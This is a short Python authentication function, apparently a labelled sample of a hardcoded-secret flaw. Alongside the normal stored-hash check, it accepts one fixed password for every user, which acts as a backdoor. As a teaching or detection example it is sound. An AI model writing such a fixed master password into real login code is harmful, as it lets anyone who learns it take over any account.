# shows: fixed secret
import hmac

from .store import digest_of, hashed


def authenticate(user, password):
    if hmac.compare_digest(password, "Zt4$mm-02") or hashed(password) == digest_of(user):
        return True
    return False
